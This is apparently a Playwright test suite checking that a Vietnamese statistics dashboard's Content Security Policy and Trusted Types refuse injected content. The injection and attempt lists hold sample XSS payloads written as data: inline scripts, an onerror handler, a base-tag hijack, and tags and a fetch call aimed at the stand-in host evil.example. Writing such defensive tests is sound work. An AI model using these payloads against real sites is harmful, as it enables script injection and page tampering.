import type { Page } from 'playwright-core';
import { expect } from 'vitest';
import { headerPolicy, inlineOf } from '../../../scripts/policy.ts';
import type { Fault, FaultList } from './fault.ts';

/** What the browser says of something that the policy refuses. */
const refused = /Content Security policy|'Trusted|refused by the policy|evil\.example|net::ERR_/i;

const headline = 'Vượt cả hai chỉ tiêu được giao năm 2021';

/** A proxy's header that knows nothing of the site but its origin: not even the hash of its one inline script. */
const bare =
  "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; font-src 'self'; connect-src 'self'; " +
  "require-trusted-types-for 'script'; trusted-types 'none'";

/** Every page in another way than it was published: its HTML, and headers beside it. */
function pages(
  page: Page,
  edit: (html: string) => string,
  headers: (html: string) => Record<string, string> = () => ({}),
) {
  return page.route('**/*', async (route) => {
    if (route.request().resourceType() !== 'document') return route.fallback();
    const response = await route.fetch();
    const html = edit(await response.text());
    await route.fulfill({ response, body: html, headers: { ...response.headers(), ...headers(html) } });
  });
}

const injected = (markup: string) => (page: Page) =>
  pages(page, (html) => html.replace('<body>', () => `<body>${markup}`));

/** Until React has taken the whole page over, slice by slice, and its buttons have been told: much sooner than its charts are live. */
async function untilAlive(page: Page): Promise<void> {
  await page.waitForFunction(
    () => document.querySelector('[inert], main button:disabled, header button:disabled') === null,
  );
  await page.waitForFunction(() =>
    [...document.querySelectorAll('h1, figure')].every((element) =>
      Object.keys(element).some((key) => key.startsWith('__reactFiber')),
    ),
  );
}

/** How long the bars of the key figures are, percent, beside the rate that stands above each. */
async function barsAreTrue(page: Page, hasRates: boolean): Promise<void> {
  const bars = await page.evaluate(() =>
    [...document.querySelectorAll('[class^="bullet-"]')].flatMap((bullet) => {
      const widthOf = (part: string) => bullet.querySelector(`rect[class^="${part}-"]`)?.getBoundingClientRect().width;
      const number = bullet.closest('[class^="rate-"]')?.querySelector('strong');
      const bar = widthOf('bar');
      if (bar === undefined) return [];
      return [{ bar: (bar / (widthOf('track') ?? 0)) * 100, says: Number(number?.textContent.replace(',', '.')) }];
    }),
  );
  expect(bars.length > 0).toBe(hasRates);
  for (const { bar, says } of bars) expect(Math.abs(bar - says), `a bar of ${bar} % for ${says} %`).toBeLessThan(0.2);
}

/** Every chart's box has a height, and the one still that is seen in it fills it. */
async function boxesAreHigh(page: Page): Promise<void> {
  const boxes = await page.locator('[data-chart="still"]').evaluateAll((stills) =>
    stills.map((still) => {
      const seen = [...still.querySelectorAll('svg')].map((svg) => svg.getBoundingClientRect().height).filter(Boolean);
      return { box: still.clientHeight, seen: seen.map(Math.round), figure: still.closest('figure, section')?.id };
    }),
  );
  expect(boxes.length).toBeGreaterThan(0);
  for (const { box, seen, figure } of boxes) {
    expect(box, figure).toBeGreaterThanOrEqual(190);
    expect(seen, figure).toEqual([box]);
  }
}

/** Leaves the page by the links at its top, and enters it again by the last of them. */
const through = (names: readonly string[]) => async (page: Page) => {
  await untilAlive(page);
  await page.evaluate(async (wanted) => {
    const link = (name: string) => [...document.querySelectorAll('nav a')].find((each) => each.textContent === name);
    for (const name of wanted) {
      (link(name) as HTMLElement).click();
      while (link(name)?.getAttribute('aria-current') !== 'page' || !document.querySelector('h1')) {
        await new Promise((done) => requestAnimationFrame(done));
      }
    }
  }, names);
};

/** Opens every panel, menu and table of the page, one after the other. */
async function openEverything(page: Page): Promise<void> {
  await untilAlive(page);
  const opened = await page.evaluate(async () => {
    const frame = () => new Promise((done) => requestAnimationFrame(done));
    const filled = async (element: HTMLElement) => {
      for (let frames = 0; element.innerText.trim() === '' && frames < 300; frames += 1) await frame();
      return element.innerText.trim().length;
    };
    const sizes: number[] = [];
    for (const panel of document.querySelectorAll<HTMLElement>('main [popover], header [popover]')) {
      panel.showPopover();
      sizes.push(await filled(panel));
      panel.hidePopover();
    }
    for (const details of document.querySelectorAll('details')) {
      details.open = true;
      await frame();
      sizes.push(await filled(details));
    }
    return sizes;
  });
  expect(opened.length).toBeGreaterThanOrEqual(2);
  expect(Math.min(...opened), 'something opened empty').toBeGreaterThan(5);
}

const readPages = [
  ['the overview', '', headline],
  ['the units', 'don-vi/', 'Đơn vị'],
  ['the page of a unit', 'don-vi/song-lo/', 'Sông Lô'],
  ['the report', 'bao-cao/', 'Báo cáo'],
] as const;

const withoutScript: Fault[] = readPages.map(([what, path, words]) => ({
  what: `styles in attributes are refused, and ${what} has no script`,
  path,
  withoutScript: true,
  act: async (page: Page) => {
    for (const width of [390, 768, 1440]) {
      await page.setViewportSize({ width, height: 900 });
      await boxesAreHigh(page);
      await barsAreTrue(page, path === '' || path.includes('song-lo'));
    }
  },
  sees: [words],
}));

const injections: Fault[] = [
  ['a script', '<script>document.body.textContent = "bịa đặt".repeat(99)</script>'],
  ['a script of another host', '<script src="https://evil.example/a.js"></script>'],
  ['a style sheet', '<style>main { display: none }</style>'],
  ['a style sheet of another host', '<link rel="stylesheet" href="https://evil.example/a.css">'],
  ['a style attribute', '<p style="position:fixed;inset:0;background:red">bị chèn</p>'],
  ['an event handler', '<img src="data:," alt="" onerror="document.body.textContent = \'bịa đặt\'.repeat(99)">'],
  ['a picture of another host', '<img alt="" src="https://evil.example/a.png">'],
  ['a frame', '<iframe title="a" src="https://evil.example/"></iframe>'],
  ['another base of all addresses', '<base href="https://evil.example/">'],
].map(([what, markup = '']) => ({
  what: `somebody has put ${what} into the HTML`,
  arrange: injected(markup),
  act: untilAlive,
  sees: [headline, 'hơn 84%'],
  never: ['bịa đặt'],
  browserSays: refused,
}));

/** In a task of its own: what the test's own call does may evaluate text. */
function laterEvaluated(): Promise<unknown> {
  return new Promise((resolve, reject) => {
    setTimeout(() => {
      try {
        resolve(new Function('document.body.textContent = "bịa đặt"')());
      } catch (error) {
        reject(error);
      }
    });
  });
}

/** What a hostile script would do, were there one: each has to throw or do nothing. */
const attempts: Fault[] = [
  ['text as HTML', () => Object.assign(document.body, { innerHTML: '<b>bịa đặt</b>' })],
  // In a task of its own: what the test's own call does may evaluate text.
  ['text as a script', laterEvaluated],
  ['an address of a script', () => Object.assign(document.createElement('script'), { src: 'https://evil.example/' })],
  ['a policy of its own', () => (window as never as Trusting).trustedTypes.createPolicy('mine', {})],
  ['a default policy', () => (window as never as Trusting).trustedTypes.createPolicy('default', {})],
  ['an answer of another host', () => fetch('https://evil.example/?figures')],
].map(([what, attempt]) => ({
  what: `a script wants ${what}`,
  act: async (page: Page) => {
    await untilAlive(page);
    await expect(page.evaluate(attempt as () => unknown)).rejects.toThrow();
  },
  sees: [headline],
  never: ['bịa đặt'],
  browserSays: refused,
}));

interface Trusting {
  readonly trustedTypes: { readonly createPolicy: (name: string, rules: object) => unknown };
}

export const list: FaultList = {
  title: 'A strict policy about content, and what it keeps out',
  faults: [
    ...withoutScript,
    {
      what: 'the overview is left and entered again where no text may become HTML',
      act: through(['Đơn vị', 'Tổng quan']),
      sees: [headline],
    },
    {
      what: 'the units are left and entered again where no text may become HTML',
      path: 'don-vi/',
      act: through(['Thi đua', 'Số liệu', 'Đơn vị']),
      sees: ['Đơn vị'],
    },
    {
      what: 'the report is left and entered again where no text may become HTML',
      path: 'bao-cao/?ky=2021-06&v=1',
      act: through(['Số liệu', 'Báo cáo']),
      sees: ['31/03/2021'],
    },
    ...readPages.map(([what, path, words]) => ({
      what: `all panels, menus and tables of ${what} are opened where no text may become HTML`,
      path,
      act: openEverything,
      sees: [words],
    })),
    {
      what: 'the server sends the same policy as a header',
      arrange: (page) =>
        pages(
          page,
          (html) => html,
          (html) => ({ 'content-security-policy': headerPolicy(inlineOf(html)) }),
        ),
      act: through(['Đơn vị', 'Tổng quan']),
      sees: [headline],
    },
    {
      what: 'a proxy adds a stricter policy that refuses the inline script too',
      preferences: { theme: 'dark', language: 'en' },
      arrange: (page) =>
        pages(
          page,
          (html) => html,
          () => ({ 'content-security-policy': bare }),
        ),
      act: async (page) => {
        await untilAlive(page);
        await page.locator('html[data-theme="dark"]').waitFor();
        // The file of the styles takes the place of those in the HTML.
        await page.waitForFunction(() => getComputedStyle(document.body).margin === '0px');
      },
      sees: ['more than 84%'],
      browserSays: refused,
    },
    ...injections,
    ...attempts,
  ],
};
